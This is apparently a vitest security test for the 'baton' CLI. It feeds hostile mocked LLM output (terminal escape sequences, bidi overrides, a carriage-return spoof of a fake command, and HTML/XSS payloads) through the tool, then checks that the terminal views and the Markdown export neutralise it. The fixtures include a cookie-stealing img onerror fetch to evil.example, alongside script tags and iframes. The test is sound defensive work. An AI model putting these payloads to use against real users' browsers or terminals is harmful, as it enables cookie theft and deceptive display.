import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { LLMock } from '@copilotkit/aimock';
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliResult } from '../support/cli.js';
import { describeResult, runCli, tempDir } from '../support/cli.js';

/**
 * Model output is hostile. A loopback provider (aimock, speaking the OpenAI-compatible wire
 * protocol) writes candidates and judge reasons that carry terminal escapes (clear screen, window
 * title, OSC 8 hyperlinks), carriage returns that overwrite Baton's `│` marker, bidi overrides,
 * raw HTML and remote images. Through the real `baton` binary: the terminal views show none of it
 * raw, and the Markdown export, rendered by a real CommonMark renderer with raw HTML enabled (as
 * many viewers do), runs nothing and fetches nothing.
 */

const ESC = '\u001b';
const HOSTILE = [
  'Every criterion met.',
  `${ESC}[2J${ESC}[H`,
  `${ESC}]0;pwned title\u0007`,
  `${ESC}]8;;http://evil.example/${ESC}\\click here${ESC}]8;;${ESC}\\`,
  'fake line\r│ every criterion met, run: baton decide x accept',
  'bidi \u202Eelif\u202C and \u2066isolate\u2069',
  'C1 \u009b31m csi',
  '<script>alert(1)</script>',
  '<img src=x onerror="fetch(\'http://evil.example/?k=\'+document.cookie)">',
  '<iframe src="http://evil.example/frame"></iframe>',
  '![tracker](http://evil.example/?q=secret)',
  '![ref tracker][t]',
  '',
  '[t]: http://evil.example/ref.png',
  '<http://evil.example/autolink.png>',
].join('\n');

const CRITERIA = ['vivid', 'short'];
const JUDGE_ANSWER = {
  scores: CRITERIA.map((criterion) => ({ criterion, score: 9, reason: `fine${ESC}[2J <img src=http://evil.example/j.png onerror=alert(1)> | cell\nbreak \u202E` })),
  constraints: [],
  flags: [],
  critique: `Keep going${ESC}]0;title\u0007 <script>x</script>`,
};

let mock: LLMock;
let dir: string;
let env: Record<string, string>;
const cli = (args: string[]): Promise<CliResult> => runCli(args, { cwd: dir, env });

beforeAll(async () => {
  mock = new LLMock({ port: 0, host: '127.0.0.1' });
  mock.on({ systemMessage: 'You are a strict, fair judge' }, { content: JSON.stringify(JUDGE_ANSWER), usage: { prompt_tokens: 100, completion_tokens: 50 } } as never);
  mock.on({ predicate: (req) => req.embeddingInput === undefined }, { content: HOSTILE, usage: { prompt_tokens: 100, completion_tokens: 50 } } as never);
  await mock.start();
  dir = tempDir('baton-hostile-');
  env = { BATON_OPENAI_COMPATIBLE_BASE_URL: `${mock.url}/v1`, BATON_DB: join(dir, 'baton.db'), HOME: dir };
  writeFileSync(
    join(dir, 'brief.md'),
    [
      '---',
      // The brief's own text is untrusted on a terminal too (YAML's \\e is ESC).
      'question: "How should we name the harbour\\e]0;brief title\\a lighthouse?"',
      'criteria:',
      ...CRITERIA.map((id) => `  - id: ${id}\n    text: The answer is ${id}`),
      'lenses: [challenge-assumption]',
      'budget:',
      '  calls: 6',
      'attention: 1',
      'model: openai-compatible:hostile',
      '---',
      '',
    ].join('\n'),
  );
});

afterAll(async () => {
  await mock.stop();
});

/** No control character but newline and tab, no bidi override, in what a terminal would show. */
function expectTerminalSafe(text: string, where: string): void {
  // eslint-disable-next-line no-control-regex
  const unsafe = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u.exec(text);
  expect(unsafe, `${where} holds ${JSON.stringify(unsafe?.[0])} at ${unsafe?.index}: …${JSON.stringify(text.slice(Math.max(0, (unsafe?.index ?? 0) - 40), (unsafe?.index ?? 0) + 40))}…`).toBeNull();
}

describe('hostile model output', () => {
  let id: string;
  let candidate: string;

  it('run, board and show print no control characters or bidi overrides', async () => {
    const run = await cli(['run', 'brief.md', '--seed', '3']);
    expect([0, 4, 10], describeResult(run)).toContain(run.code);
    id = /exploration (x[0-9a-z]+)/u.exec(run.stderr)?.[1] ?? '';
    expect(id).not.toBe('');
    expectTerminalSafe(run.stdout, 'run stdout');
    expectTerminalSafe(run.stderr, 'run stderr');
    // The hostile text is shown, made visible: a reader sees something was there.
    expect(run.stdout).toContain('␛[2J');

    const board = await cli(['board', id]);
    expectTerminalSafe(board.stdout + board.stderr, 'board');
    const show = await cli(['show', id]);
    expectTerminalSafe(show.stdout + show.stderr, 'show');
    candidate = /\b(c\d+)\b/u.exec(show.stdout)?.[1] ?? '';
    expect(candidate).not.toBe('');
    const detail = await cli(['show', id, candidate]);
    expect(detail.code, describeResult(detail)).toBe(0);
    expectTerminalSafe(detail.stdout + detail.stderr, 'show candidate');
    // The carriage return cannot put text over the quote marker: every line of the text is quoted.
    expect(detail.stdout).toContain('│ fake line␍│ every criterion met');
    expect(detail.stdout).toContain('<U+202E>');
  });

  it('--json keeps the text exact, escaped so a terminal obeys none of it', async () => {
    const detail = await cli(['show', id, candidate, '--json']);
    expectTerminalSafe(detail.stdout, 'show --json');
    const parsed = JSON.parse(detail.stdout) as { candidate: { text: string } };
    expect(parsed.candidate.text).toBe(HOSTILE);
  });

  it('the Markdown export runs no HTML and fetches nothing when rendered', async () => {
    const exported = await cli(['export', id, '--format', 'md']);
    expect(exported.code, describeResult(exported)).toBe(0);
    expectTerminalSafe(exported.stdout, 'export on stdout');
    const file = join(dir, 'result.md');
    const written = await cli(['export', id, '--format', 'md', '-o', file]);
    expect(written.code, describeResult(written)).toBe(0);
    const { readFileSync } = await import('node:fs');
    const markdown = readFileSync(file, 'utf8');
    expectTerminalSafe(markdown, 'export file');
    // html: true is the dangerous setting many viewers use; linkify adds autolinks of bare URLs.
    const renderer = new MarkdownIt({ html: true, linkify: true });
    const tokens = renderer.parse(markdown, {}).flatMap((token) => [token, ...(token.children ?? [])]);
    expect(tokens.filter((t) => ['html_block', 'html_inline', 'image'].includes(t.type)).map((t) => t.content)).toEqual([]);
    const html = renderer.render(markdown);
    // Text is escaped in the HTML, so every `<…>` left is an element the renderer made.
    const elements = [...html.matchAll(/<([a-z][a-z0-9]*)([^>]*)>/giu)];
    expect(elements.length).toBeGreaterThan(10);
    for (const [tag, name, attributes] of elements) {
      expect(['script', 'iframe', 'img', 'object', 'embed', 'video', 'audio', 'source', 'link', 'style', 'svg', 'math', 'frame', 'base', 'meta'], tag).not.toContain(name?.toLowerCase());
      expect(attributes, tag).not.toMatch(/\s(on[a-z]+|src|srcset|style|background|poster)\s*=/iu);
    }
    // The text is still there, as text.
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('![tracker](');
    // The judge's reason stays in its table row: the `|` and the newline are escaped.
    const rows = markdown.split('\n').filter((line) => line.startsWith('| vivid') || line.startsWith('| short'));
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row.split(/(?<!\\)\|/u).length).toBe(5);
  });
});
